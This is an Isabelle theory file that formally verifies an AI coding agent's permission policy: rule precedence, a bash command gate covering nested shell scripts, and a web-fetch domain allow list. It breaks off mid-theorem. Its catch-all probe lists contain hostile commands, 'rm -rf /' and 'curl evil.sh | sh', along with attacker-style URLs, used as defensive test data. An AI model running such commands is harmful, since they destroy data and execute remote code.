(* ===== verification/Perm_Policy.thy ===== *)
theory Perm_Policy
  imports Perm_Rules Shell_Tree
begin

text \<open>
  The compiled permission policy: \<open>permission/policy.rs\<close>, the decision order of
  \<open>permission/shell_access.rs\<close> and the domain matching of the web-fetch tool (\<open>web_fetch/domain.rs\<close>).

  What the code takes from outside the repository is a field of \<open>Externals\<close>: the glob matcher, the
  URL parser, the Unicode lower-case table, the shell parser and the file system calls. No law about
  them is assumed; the theorems hold for every choice.

  The lemmas show that a policy decides by the strongest matching rule, whatever the order of the
  rules; that the command gate rejects a script exactly when one of the commands it runs (behind
  wrappers and nested \<open>-c\<close> scripts too) is denied and never allows anything; and that the domain
  table permits exactly what one of its entries permits.
\<close>

section \<open>The surroundings\<close>

record Url =
  host_str :: "rstr option"
  url_path :: rstr

record Externals =
  glob_new :: "rstr \<Rightarrow> bool"
  glob_matches_with :: "rstr \<Rightarrow> bool \<Rightarrow> rstr \<Rightarrow> bool"
  url_parse :: "rstr \<Rightarrow> Url option"
  to_lowercase :: "rstr \<Rightarrow> rstr"
  try_parse_shell :: ShellParser
  canonicalize :: "rstr \<Rightarrow> rstr option"
  is_symlink :: "rstr \<Rightarrow> bool"
  read_link :: "rstr \<Rightarrow> rstr option"

text \<open>\<open>glob_new p\<close> says that the pattern \<open>p\<close> compiles, \<open>glob_matches_with p sep t\<close> that it matches \<open>t\<close>,
  with \<open>sep\<close> the option \<open>require_literal_separator\<close>.\<close>

section \<open>Decisions\<close>

fun decision_rank :: "Decision \<Rightarrow> nat" where
  "decision_rank (Reject r) = 3"
| "decision_rank (PolicyDeny r) = 3"
| "decision_rank Ask = 2"
| "decision_rank Allow = 1"
| "decision_rank _ = 0"

fun combine_decisions :: "Decision option \<Rightarrow> Decision option \<Rightarrow> Decision option" where
  "combine_decisions None other = other"
| "combine_decisions other None = other"
| "combine_decisions (Some a) (Some b) = Some (if decision_rank b \<le> decision_rank a then a else b)"

section \<open>Domains\<close>

definition trim_end_matches :: "rchar \<Rightarrow> rstr \<Rightarrow> rstr" where
  "trim_end_matches c s = rev (dropWhile (\<lambda>x. x = c) (rev s))"

definition normalize_domain :: "Externals \<Rightarrow> rstr \<Rightarrow> rstr" where
  "normalize_domain E raw =
     (let s = trim_end_matches 46 (trim_end_matches 47 (trim raw));
          s1 = (case strip_prefix (lit ''www.'') s of Some r \<Rightarrow> r | None \<Rightarrow> s)
      in to_lowercase E s1)"

datatype HostEntry = AnyPath | PathPrefixes "rstr list"

type_synonym DomainMatcher = "rstr \<rightharpoonup> HostEntry"

definition add_prefix :: "rstr \<Rightarrow> HostEntry option \<Rightarrow> HostEntry" where
  "add_prefix p e =
     (case e of
        None \<Rightarrow> PathPrefixes [p]
      | Some AnyPath \<Rightarrow> AnyPath
      | Some (PathPrefixes v) \<Rightarrow> PathPrefixes (if p \<in> set v then v else v @ [p]))"

definition matcher_add :: "Externals \<Rightarrow> rstr \<Rightarrow> DomainMatcher \<Rightarrow> DomainMatcher" where
  "matcher_add E raw entries =
     (let normalized = normalize_domain E raw
      in if normalized = [] then entries
         else if 47 \<notin> set normalized then entries(normalized \<mapsto> AnyPath)
         else let host = takeWhile (\<lambda>c. c \<noteq> 47) normalized;
                  raw_path = dropWhile (\<lambda>c. c \<noteq> 47) normalized
              in if entries host = Some AnyPath then entries
                 else let p = trim_end_matches 47 raw_path
                      in if p = [] \<or> p = lit ''/'' then entries(host \<mapsto> AnyPath)
                         else entries(host \<mapsto> add_prefix (if starts_with (lit ''/'') p then p else 47 # p)
                                                (entries host)))"

definition domain_matcher_new :: "Externals \<Rightarrow> rstr list \<Rightarrow> DomainMatcher" where
  "domain_matcher_new E raws = fold (matcher_add E) raws (\<lambda>h. None)"

definition path_under :: "rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "path_under p path \<longleftrightarrow> path = p \<or> starts_with (p @ [47]) path"

text \<open>\<open>check\<close> returns the refusal; \<open>None\<close> permits the fetch.\<close>

definition matcher_check :: "Externals \<Rightarrow> DomainMatcher \<Rightarrow> Url \<Rightarrow> rstr option" where
  "matcher_check E entries url =
     (case host_str url of
        None \<Rightarrow> Some []
      | Some raw_host \<Rightarrow>
          (let host = normalize_domain E raw_host
           in case entries host of
                Some AnyPath \<Rightarrow> None
              | Some (PathPrefixes ps) \<Rightarrow>
                  if \<exists>p \<in> set ps. path_under p (to_lowercase E (url_path url)) then None else Some host
              | None \<Rightarrow> Some host))"

section \<open>Matching a rule\<close>

datatype MatchContext = PathCtx | Freeform

definition glob_matches :: "Externals \<Rightarrow> rstr \<Rightarrow> MatchContext \<Rightarrow> rstr option \<Rightarrow> bool" where
  "glob_matches E text ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> glob_matches_with E p (ctx = PathCtx) text)"

definition domain_matches :: "Externals \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "domain_matches E pat url =
     (case url_parse E url of
        None \<Rightarrow> False
      | Some u \<Rightarrow>
          (case host_str u of
             None \<Rightarrow> False
           | Some h \<Rightarrow>
               (let domain = normalize_domain E h; np = normalize_domain E pat
                in domain = np \<or> ends_with (46 # np) domain)))"

fun tool_filter_matches :: "AccessKind \<Rightarrow> ToolFilter \<Rightarrow> bool" where
  "tool_filter_matches a FAny = True"
| "tool_filter_matches a FBash = (case a of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FEdit = (case a of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FRead = (case a of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FGrep = (case a of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FMcp = (case a of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FWebFetch = (case a of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches a FWebSearch = (case a of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition opt_path_matches :: "Externals \<Rightarrow> rstr option \<Rightarrow> rstr option \<Rightarrow> bool" where
  "opt_path_matches E path matcher =
     (case path of Some p \<Rightarrow> glob_matches E p PathCtx matcher | None \<Rightarrow> False)"

definition pattern_matches :: "Externals \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> rstr option \<Rightarrow> bool" where
  "pattern_matches E access rule matcher =
     (case pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow>
          if p = lit ''*'' then True
          else case access of
                 Bash cmd0 \<Rightarrow>
                   (let cmd = trim_start cmd0 in starts_with p cmd \<or> glob_matches E cmd Freeform matcher)
               | Edit path \<Rightarrow> glob_matches E path PathCtx matcher
               | Read path \<Rightarrow> opt_path_matches E path matcher
               | Grep path g \<Rightarrow> opt_path_matches E path matcher
               | MCPTool name input \<Rightarrow> glob_matches E name Freeform matcher
               | WebFetch url \<Rightarrow>
                   (case pattern_mode rule of
                      Domain \<Rightarrow> domain_matches E p url
                    | Glob \<Rightarrow> glob_matches E url Freeform matcher)
               | WebSearch query \<Rightarrow> glob_matches E query Freeform matcher \<or> starts_with p query)"

section \<open>The compiled policy\<close>

record CompiledPolicy =
  cp_config :: PermissionConfig
  matchers :: "rstr option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool

definition compile_matcher :: "Externals \<Rightarrow> PermissionRule \<Rightarrow> rstr option" where
  "compile_matcher E rule =
     (case pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p \<noteq> lit ''*'' \<and> glob_new E p then Some p else None)"

definition compiled_new :: "Externals \<Rightarrow> PermissionConfig \<Rightarrow> CompiledPolicy" where
  "compiled_new E config =
     \<lparr>cp_config = config,
      matchers = map (compile_matcher E) (rules config),
      has_file_restrictions =
        (\<exists>r \<in> set (rules config). action r \<in> {RuleDeny, RuleAsk} \<and> tool r \<in> {FRead, FEdit, FAny}),
      has_bash_command_restrictions =
        (\<exists>r \<in> set (rules config). action r \<in> {RuleDeny, RuleAsk} \<and> tool r \<in> {FBash, FAny})\<rparr>"

fun tool_label :: "ToolFilter \<Rightarrow> rstr" where
  "tool_label FAny = lit ''any tool''"
| "tool_label FBash = lit ''bash''"
| "tool_label FEdit = lit ''edit''"
| "tool_label FRead = lit ''read''"
| "tool_label FGrep = lit ''grep''"
| "tool_label FMcp = lit ''mcp''"
| "tool_label FWebFetch = lit ''web_fetch''"
| "tool_label FWebSearch = lit ''web_search''"

definition deny_reason :: "PermissionRule \<Rightarrow> rstr" where
  "deny_reason rule =
     lit ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
     (case pattern rule of
        Some p \<Rightarrow> lit '' matching '' @ [34] @ p @ [34]
      | None \<Rightarrow> [])"

fun evaluate_loop ::
  "Externals \<Rightarrow> AccessKind \<Rightarrow> (PermissionRule \<times> rstr option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> Decision option" where
  "evaluate_loop E access [] matched_ask matched_allow =
     (if matched_ask then Some Ask else if matched_allow then Some Allow else None)"
| "evaluate_loop E access ((rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (tool rule) then evaluate_loop E access rest matched_ask matched_allow
      else if \<not> pattern_matches E access rule matcher then evaluate_loop E access rest matched_ask matched_allow
      else case action rule of
             RuleDeny \<Rightarrow> Some (Reject (deny_reason rule))
           | RuleAsk \<Rightarrow> evaluate_loop E access rest True matched_allow
           | RuleAllow \<Rightarrow> evaluate_loop E access rest matched_ask True)"

definition evaluate :: "Externals \<Rightarrow> CompiledPolicy \<Rightarrow> AccessKind \<Rightarrow> Decision option" where
  "evaluate E P access = evaluate_loop E access (zip (rules (cp_config P)) (matchers P)) False False"

section \<open>The gate on the commands of a script\<close>

fun dash_c_operand :: "rstr list \<Rightarrow> rstr option" where
  "dash_c_operand [] = None"
| "dash_c_operand (w # rest) =
     (if w = lit ''--'' \<or> w = lit ''-'' then (case rest of [] \<Rightarrow> None | v # _ \<Rightarrow> Some v)
      else if \<not> dash w then Some w
      else dash_c_operand rest)"

definition shell_dash_c_script :: "rstr list \<Rightarrow> rstr option" where
  "shell_dash_c_script ws =
     (case ws of
        [] \<Rightarrow> None
      | w # args \<Rightarrow>
          if shell_program_name w \<notin> set (map lit [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']) then None
          else case dropWhile (\<lambda>w. \<not> (dash w \<and> \<not> starts_with (lit ''--'') w \<and> 99 \<in> set w)) args of
                 [] \<Rightarrow> None
               | flag # rest \<Rightarrow> dash_c_operand rest)"

text \<open>A decision that may only escalate: an \<open>Allow\<close> is dropped.\<close>

definition escalate :: "Decision option \<Rightarrow> Decision option" where
  "escalate d = (if d = Some Allow then None else d)"

definition command_forms :: "rstr list \<Rightarrow> rstr list list" where
  "command_forms raw_words =
     (let unwrapped = unwrap_wrappers raw_words
      in raw_words # (if length unwrapped \<noteq> length raw_words then [unwrapped] else []))"

text \<open>The first argument is the number of nesting levels left: \<open>depth\<close> of the source counts up
  from 0 and stops at 8.\<close>

primrec evaluate_bash_command_segments ::
  "nat \<Rightarrow> Externals \<Rightarrow> CompiledPolicy \<Rightarrow> rstr \<Rightarrow> Decision option" where
  "evaluate_bash_command_segments 0 E P cmd = Some Ask"
| "evaluate_bash_command_segments (Suc n) E P cmd =
     (case all_commands_from_script (try_parse_shell E) cmd of
        None \<Rightarrow> Some Ask
      | Some segments \<Rightarrow>
          fold (\<lambda>ws decision.
                  let d1 = combine_decisions decision (escalate (evaluate E P (Bash (join [32] ws))))
                  in case shell_dash_c_script ws of
                       None \<Rightarrow> d1
                     | Some inner \<Rightarrow> combine_decisions d1 (evaluate_bash_command_segments n E P inner))
            (concat (map (\<lambda>c. command_forms (words c)) segments)) None)"

definition evaluate_bash_command_policy :: "Externals \<Rightarrow> CompiledPolicy \<Rightarrow> rstr \<Rightarrow> Decision option" where
  "evaluate_bash_command_policy E P cmd =
     (if \<not> has_bash_command_restrictions P then None
      else evaluate_bash_command_segments 8 E P cmd)"

section \<open>Catch-all rules\<close>

definition bash_probes :: "AccessKind list" where
  "bash_probes = map (\<lambda>c. Bash (lit c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "AccessKind list" where
  "mcp_probes = map (\<lambda>n. MCPTool (lit n) (lit ''null''))
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "AccessKind list" where
  "webfetch_probes = map (\<lambda>u. WebFetch (lit u))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition rule_is_catchall :: "Externals \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_is_catchall E rule =
     (let opens_all = (\<lambda>probes. \<forall>a \<in> set probes. pattern_matches E a rule (compile_matcher E rule))
      in case tool rule of
           FBash \<Rightarrow> opens_all bash_probes
         | FMcp \<Rightarrow> opens_all mcp_probes
         | FWebFetch \<Rightarrow> opens_all webfetch_probes
         | FAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes
         | _ \<Rightarrow> False)"

section \<open>The order of decisions\<close>

definition rank_opt :: "Decision option \<Rightarrow> nat" where
  "rank_opt d = (case d of None \<Rightarrow> 0 | Some x \<Rightarrow> decision_rank x)"

lemma rank_opt_simps [simp]:
  "rank_opt None = 0" "rank_opt (Some d) = decision_rank d"
  by (simp_all add: rank_opt_def)

lemma combine_rank [simp]: "rank_opt (combine_decisions a b) = max (rank_opt a) (rank_opt b)"
  by (cases a; cases b) auto

lemma combine_assoc:
  "combine_decisions (combine_decisions a b) c = combine_decisions a (combine_decisions b c)"
  by (cases a; cases b; cases c) auto

lemma combine_cases: "combine_decisions a b = a \<or> combine_decisions a b = b"
  by (cases a; cases b) auto

text \<open>The outcomes a policy evaluation can have: nothing, \<open>Allow\<close>, \<open>Ask\<close> or \<open>Reject\<close>. Among them the
  rank determines the decision, up to the text of a rejection.\<close>

definition policy_outcome :: "Decision option \<Rightarrow> bool" where
  "policy_outcome d \<longleftrightarrow> d = None \<or> d = Some Allow \<or> d = Some Ask \<or> (\<exists>m. d = Some (Reject m))"

lemma policy_outcome_rank:
  assumes "policy_outcome d"
  shows "rank_opt d = 0 \<longleftrightarrow> d = None" "rank_opt d = 1 \<longleftrightarrow> d = Some Allow" "rank_opt d = 2 \<longleftrightarrow> d = Some Ask"
    "rank_opt d = 3 \<longleftrightarrow> (\<exists>m. d = Some (Reject m))" "rank_opt d \<le> 3"
  using assms by (auto simp: policy_outcome_def)

lemma policy_outcome_combine: "policy_outcome a \<Longrightarrow> policy_outcome b \<Longrightarrow> policy_outcome (combine_decisions a b)"
  using combine_cases [of a b] by auto

text \<open>The contract of a gate that may only make a decision stricter.\<close>

locale escalation_gate =
  fixes gate :: "rstr \<Rightarrow> Decision option"
  assumes gate_outcome: "gate cmd = Some d \<Longrightarrow> d = Ask \<or> (\<exists>m. d = Reject m)"
begin

lemma gate_policy_outcome: "policy_outcome (gate cmd)"
  using gate_outcome [of cmd] by (cases "gate cmd") (auto simp: policy_outcome_def)

lemma gate_never_allows: "gate cmd \<noteq> Some Allow"
  using gate_outcome by auto

text \<open>Combined with another decision, the gate never loosens it.\<close>

lemma gate_only_escalates: "rank_opt d \<le> rank_opt (combine_decisions d (gate cmd))"
  by simp

lemma allow_through_gate: "combine_decisions d (gate cmd) = Some Allow \<Longrightarrow> d = Some Allow \<and> gate cmd = None"
  using gate_outcome [of cmd] by (cases d; cases "gate cmd") (auto split: if_splits)

end

section \<open>A policy decides by its strongest matching rule\<close>

definition rule_applies :: "Externals \<Rightarrow> AccessKind \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_applies E a r \<longleftrightarrow> tool_filter_matches a (tool r) \<and> pattern_matches E a r (compile_matcher E r)"

fun action_rank :: "RuleAction \<Rightarrow> nat" where
  "action_rank RuleAllow = 1"
| "action_rank RuleAsk = 2"
| "action_rank RuleDeny = 3"

lemma evaluate_compiled:
  "evaluate E (compiled_new E c) a
     = evaluate_loop E a (map (\<lambda>r. (r, compile_matcher E r)) (rules c)) False False"
  by (simp add: evaluate_def compiled_new_def zip_map2 zip_same_conv_map o_def)

lemma evaluate_loop_eq:
  "evaluate_loop E a (map (\<lambda>r. (r, compile_matcher E r)) rs) ask alw =
     (case List.find (\<lambda>r. rule_applies E a r \<and> action r = RuleDeny) rs of
        Some r \<Rightarrow> Some (Reject (deny_reason r))
      | None \<Rightarrow>
          if ask \<or> (\<exists>r \<in> set rs. rule_applies E a r \<and> action r = RuleAsk) then Some Ask
          else if alw \<or> (\<exists>r \<in> set rs. rule_applies E a r \<and> action r = RuleAllow) then Some Allow
          else None)"
proof (induction rs arbitrary: ask alw)
  case (Cons r rs)
  then show ?case
    by (cases "rule_applies E a r"; cases "action r") (auto simp: rule_applies_def split: option.splits)
qed simp

lemma evaluate_outcome: "policy_outcome (evaluate E (compiled_new E c) a)"
  by (auto simp: evaluate_compiled evaluate_loop_eq policy_outcome_def split: option.splits)

text \<open>C23. The policy takes the strongest action among the rules that apply to the access, deny over
  ask over allow, independently of the order and multiplicity of the rules; a rejection names a deny
  rule that applies.\<close>

theorem policy_strongest_rule:
  "rank_opt (evaluate E (compiled_new E c) a)
     = Max (insert 0 (action_rank ` action ` {r \<in> set (rules c). rule_applies E a r})) \<and>
   (\<forall>m. evaluate E (compiled_new E c) a = Some (Reject m) \<longrightarrow>
     (\<exists>r \<in> set (rules c). rule_applies E a r \<and> action r = RuleDeny \<and> m = deny_reason r))"
proof
  define R where "R = {r \<in> set (rules c). rule_applies E a r}"
  have fin: "finite (insert 0 (action_rank ` action ` R))" by (simp add: R_def)
  have "rank_opt (evaluate E (compiled_new E c) a) \<in> insert 0 (action_rank ` action ` R)"
    unfolding evaluate_compiled evaluate_loop_eq R_def
    by (auto simp: find_Some_iff image_iff split: option.splits) (metis nth_mem action_rank.simps)+
  moreover have "n \<le> rank_opt (evaluate E (compiled_new E c) a)"
    if "n \<in> insert 0 (action_rank ` action ` R)" for n
  proof (cases "n = 0")
    case False
    with that obtain r where r: "r \<in> set (rules c)" "rule_applies E a r" "n = action_rank (action r)"
      by (auto simp: R_def)
    then show ?thesis unfolding evaluate_compiled evaluate_loop_eq
      by (cases "action r") (auto simp: find_None_iff split: option.splits)
  qed simp
  ultimately show "rank_opt (evaluate E (compiled_new E c) a) = Max (insert 0 (action_rank ` action ` R))"
    by (intro Max_eqI [symmetric] fin)
next
  show "\<forall>m. evaluate E (compiled_new E c) a = Some (Reject m) \<longrightarrow>
     (\<exists>r \<in> set (rules c). rule_applies E a r \<and> action r = RuleDeny \<and> m = deny_reason r)"
    unfolding evaluate_compiled evaluate_loop_eq
    by (auto simp: find_Some_iff split: option.splits if_splits)
qed

text \<open>Leading blanks do not change how a command is judged.\<close>

lemma evaluate_leading_blanks:
  assumes "\<forall>c \<in> set ws. is_whitespace c"
  shows "evaluate E (compiled_new E c) (Bash (ws @ cmd)) = evaluate E (compiled_new E c) (Bash cmd)"
proof -
  have "trim_start (ws @ cmd) = trim_start cmd" using assms by (simp add: trim_start_def dropWhile_append)
  then have "rule_applies E (Bash (ws @ cmd)) r \<longleftrightarrow> rule_applies E (Bash cmd) r" for r
    by (cases "tool r") (simp_all add: rule_applies_def pattern_matches_def split: option.splits)
  then have "rule_applies E (Bash (ws @ cmd)) = rule_applies E (Bash cmd)" by (rule ext)
  then show ?thesis by (simp only: evaluate_compiled evaluate_loop_eq)
qed

section \<open>What the command gate sees\<close>

text \<open>The commands a script runs, as the gate reads it: each plain command as written and without
  its wrappers, and the commands of the scripts it passes to a shell with \<open>-c\<close>. The number bounds
  the nesting.\<close>

definition segment_form :: "Externals \<Rightarrow> rstr \<Rightarrow> rstr list \<Rightarrow> bool" where
  "segment_form E cmd ws \<longleftrightarrow>
     (\<exists>segments c. all_commands_from_script (try_parse_shell E) cmd = Some segments \<and> c \<in> set segments
        \<and> ws \<in> set (command_forms (words c)))"

inductive script_runs :: "Externals \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> rstr list \<Rightarrow> bool" for E where
  here: "segment_form E cmd ws \<Longrightarrow> script_runs E (Suc n) cmd ws"
| nested: "segment_form E cmd ws \<Longrightarrow> shell_dash_c_script ws = Some inner \<Longrightarrow> script_runs E n inner ws'
    \<Longrightarrow> script_runs E (Suc n) cmd ws'"

text \<open>Scripts the gate cannot read to the end.\<close>

inductive opaque :: "Externals \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> bool" for E where
  too_deep: "opaque E 0 cmd"
| undecomposed: "all_commands_from_script (try_parse_shell E) cmd = None \<Longrightarrow> opaque E (Suc n) cmd"
| opaque_nested: "segment_form E cmd ws \<Longrightarrow> shell_dash_c_script ws = Some inner \<Longrightarrow> opaque E n inner
    \<Longrightarrow> opaque E (Suc n) cmd"

inductive_simps script_runs_0: "script_runs E 0 cmd ws"
inductive_simps script_runs_Suc: "script_runs E (Suc n) cmd ws"
inductive_simps opaque_0: "opaque E 0 cmd"
inductive_simps opaque_Suc: "opaque E (Suc n) cmd"

lemma segment_form_None:
  "all_commands_from_script (try_parse_shell E) cmd = None \<Longrightarrow> \<not> segment_form E cmd ws"
  by (simp add: segment_form_def)

lemma segment_form_set:
  "all_commands_from_script (try_parse_shell E) cmd = Some segments \<Longrightarrow>
     segment_form E cmd ws \<longleftrightarrow> ws \<in> set (concat (map (\<lambda>c. command_forms (words c)) segments))"
  by (auto simp: segment_form_def)

lemma rank_escalate: "2 \<le> k \<Longrightarrow> k \<le> rank_opt (escalate d) \<longleftrightarrow> k \<le> rank_opt d"
  by (auto simp: escalate_def)

text \<open>Folding a list of segments: a rank of at least 2 comes from the start value, from a segment or
  from a nested script.\<close>

lemma gate_fold_rank:
  assumes "2 \<le> k"
  shows "k \<le> rank_opt (fold (\<lambda>ws decision.
             let d1 = combine_decisions decision (escalate (ev ws))
             in case shell_dash_c_script ws of None \<Rightarrow> d1 | Some inner \<Rightarrow> combine_decisions d1 (nest inner)) xs d)
     \<longleftrightarrow> k \<le> rank_opt d
       \<or> (\<exists>ws \<in> set xs. k \<le> rank_opt (ev ws))
       \<or> (\<exists>ws \<in> set xs. \<exists>inner. shell_dash_c_script ws = Some inner \<and> k \<le> rank_opt (nest inner))"
proof (induction xs arbitrary: d)
  case (Cons ws xs)
  then show ?case
    by (auto simp: Let_def rank_escalate [OF assms] le_max_iff_disj split: option.splits)
qed simp

lemma gate_rank:
  assumes k: "2 \<le> k"
  shows "k \<le> rank_opt (evaluate_bash_command_segments n E P cmd)
     \<longleftrightarrow> (\<exists>ws. script_runs E n cmd ws \<and> k \<le> rank_opt (evaluate E P (Bash (join [32] ws))))
       \<or> (k = 2 \<and> opaque E n cmd)"
proof (induction n arbitrary: cmd)
  case 0
  then show ?case using k by (auto simp: script_runs_0 opaque_0)
next
  case (Suc n)
  show ?case
  proof (cases "all_commands_from_script (try_parse_shell E) cmd")
    case None
    then show ?thesis using k by (auto simp: script_runs_Suc opaque_Suc segment_form_None)
  next
    case (Some segments)
    note seg = segment_form_set [OF Some]
    have L: "k \<le> rank_opt (evaluate_bash_command_segments (Suc n) E P cmd) \<longleftrightarrow>
        (\<exists>ws. segment_form E cmd ws \<and> k \<le> rank_opt (evaluate E P (Bash (join [32] ws))))
        \<or> (\<exists>ws inner. segment_form E cmd ws \<and> shell_dash_c_script ws = Some inner
             \<and> k \<le> rank_opt (evaluate_bash_command_segments n E P inner))"
      using k unfolding seg by (simp add: Some gate_fold_rank [OF k]) blast
    have "all_commands_from_script (try_parse_shell E) cmd \<noteq> None" using Some by simp
    then show ?thesis unfolding L Suc.IH script_runs_Suc opaque_Suc by blast
  qed
qed

text \<open>The values an escalating gate computes with: nothing, \<open>Ask\<close> or \<open>Reject\<close>.\<close>

definition escalation :: "Decision option \<Rightarrow> bool" where
  "escalation d \<longleftrightarrow> d = None \<or> d = Some Ask \<or> (\<exists>m. d = Some (Reject m))"

lemma escalation_intros [intro, simp]:
  "escalation None" "escalation (Some Ask)" "escalation (escalate (evaluate E (compiled_new E c) a))"
  using evaluate_outcome [of E c a] by (auto simp: escalation_def escalate_def policy_outcome_def)

lemma escalation_combine [intro]: "escalation a \<Longrightarrow> escalation b \<Longrightarrow> escalation (combine_decisions a b)"
  using combine_cases [of a b] by auto

lemma escalation_fold:
  "(\<And>x d. escalation d \<Longrightarrow> escalation (f x d)) \<Longrightarrow> escalation d \<Longrightarrow> escalation (fold f xs d)"
  by (rule fold_invariant [where Q = "\<lambda>_. True"]) auto

lemma segments_escalation: "escalation (evaluate_bash_command_segments n E (compiled_new E c) cmd)"
proof (induction n arbitrary: cmd)
  case (Suc n)
  then show ?case by (auto simp: Let_def intro!: escalation_fold escalation_combine split: option.splits)
qed simp

interpretation bash_gate: escalation_gate "evaluate_bash_command_policy E (compiled_new E c)" for E c
proof
  fix cmd d assume "evaluate_bash_command_policy E (compiled_new E c) cmd = Some d"
  then show "d = Ask \<or> (\<exists>m. d = Reject m)"
    using segments_escalation [of 8 E c cmd]
    by (auto simp: evaluate_bash_command_policy_def escalation_def split: if_splits)
qed


section \<open>The domain table\<close>

text \<open>What one entry of the allow list permits, read by itself.\<close>

definition entry_permits :: "Externals \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "entry_permits E raw host path \<longleftrightarrow>
     (let normalized = normalize_domain E raw; p = trim_end_matches 47 (dropWhile (\<lambda>c. c \<noteq> 47) normalized)
      in normalized \<noteq> [] \<and> host = takeWhile (\<lambda>c. c \<noteq> 47) normalized \<and> (p = [] \<or> path_under p path))"

definition table_permits :: "DomainMatcher \<Rightarrow> rstr \<Rightarrow> rstr \<Rightarrow> bool" where
  "table_permits M host path \<longleftrightarrow>
     (case M host of
        Some AnyPath \<Rightarrow> True
      | Some (PathPrefixes ps) \<Rightarrow> (\<exists>p \<in> set ps. path_under p path)
      | None \<Rightarrow> False)"

lemma trim_end_last: "trim_end_matches c s \<noteq> [] \<Longrightarrow> last (trim_end_matches c s) \<noteq> c"
  using dropWhile_hd_not [of "\<lambda>x. x = c" "rev s"]
  by (cases "dropWhile (\<lambda>x. x = c) (rev s)") (auto simp: trim_end_matches_def)

lemma trim_end_matches_prefix: "prefix (trim_end_matches c s) s"
  unfolding trim_end_matches_def using suffix_dropWhile [of "\<lambda>x. x = c" "rev s"]
  by (simp add: suffix_to_prefix)

text \<open>The path part of an entry starts with a slash and does not end with one.\<close>

lemma entry_path:
  assumes "p = trim_end_matches 47 (dropWhile (\<lambda>c. c \<noteq> 47) n)" "p \<noteq> []"
  shows "starts_with (lit ''/'') p" "p \<noteq> lit ''/''"
proof -
  have "prefix p (dropWhile (\<lambda>c. c \<noteq> 47) n)" unfolding assms(1) by (rule trim_end_matches_prefix)
  with assms(2) obtain q r where "dropWhile (\<lambda>c. c \<noteq> 47) n = q # r" "hd p = q"
    by (cases p) (auto simp: prefix_def)
  with assms(2) show "starts_with (lit ''/'') p"
    using dropWhile_hd_not [of "\<lambda>c. c \<noteq> 47" n q r] by (cases p) auto
  show "p \<noteq> lit ''/''" using assms trim_end_last [of 47 "dropWhile (\<lambda>c. c \<noteq> 47) n"] by auto
qed

lemma table_permits_add:
  "table_permits (matcher_add E raw M) host path \<longleftrightarrow> table_permits M host path \<or> entry_permits E raw host path"
proof -
  define n where "n = normalize_domain E raw"
  define h where "h = takeWhile (\<lambda>c. c \<noteq> 47) n"
  define p where "p = trim_end_matches 47 (dropWhile (\<lambda>c. c \<noteq> 47) n)"
  consider (empty) "n = []" | (host) "n \<noteq> []" "47 \<notin> set n" | (path) "n \<noteq> []" "47 \<in> set n" by blast
  then show ?thesis
  proof cases
    case empty
    then show ?thesis by (simp add: matcher_add_def entry_permits_def n_def)
  next
    case host
    then have tw: "takeWhile (\<lambda>c. c \<noteq> 47) n = n" and dw: "dropWhile (\<lambda>c. c \<noteq> 47) n = []" by auto
    have "p = []" unfolding p_def dw by (simp add: trim_end_matches_def)
    moreover have "h = n" unfolding h_def by (rule tw)
    ultimately have "h = n" "p = []" by simp_all
    with host show ?thesis
      by (auto simp: matcher_add_def entry_permits_def table_permits_def n_def [symmetric] h_def [symmetric]
          p_def [symmetric] Let_def)
  next
    case path
    have entry: "entry_permits E raw host path \<longleftrightarrow> host = h \<and> (p = [] \<or> path_under p path)"
      using path by (simp add: entry_permits_def n_def [symmetric] h_def [symmetric] p_def [symmetric] Let_def)
    have add: "matcher_add E raw M = (if M h = Some AnyPath then M
        else if p = [] then M(h \<mapsto> AnyPath) else M(h \<mapsto> add_prefix p (M h)))"
      using path entry_path [OF p_def]
      by (simp add: matcher_add_def n_def [symmetric] h_def [symmetric] p_def [symmetric] Let_def del: lit_simps)
    show ?thesis
      unfolding entry add table_permits_def add_prefix_def
      by (auto split: option.splits HostEntry.splits)
  qed
qed

lemma table_permits_new:
  "table_permits (domain_matcher_new E raws) host path \<longleftrightarrow> (\<exists>raw \<in> set raws. entry_permits E raw host path)"
proof -
  have "table_permits (fold (matcher_add E) raws M) host path
      \<longleftrightarrow> table_permits M host path \<or> (\<exists>raw \<in> set raws. entry_permits E raw host path)" for M
    by (induction raws arbitrary: M) (auto simp: table_permits_add)
  then show ?thesis by (simp add: domain_matcher_new_def table_permits_def)
qed

text \<open>The precomputed domain table permits a URL exactly when the URL has a host and one entry of
  the allow list, read by itself, permits it: a host-only entry every path of its host, an entry with
  a path the paths at or below it. The order of the entries and repeated hosts do not matter.\<close>

theorem domain_table_exact:
  "matcher_check E (domain_matcher_new E raws) url = None \<longleftrightarrow>
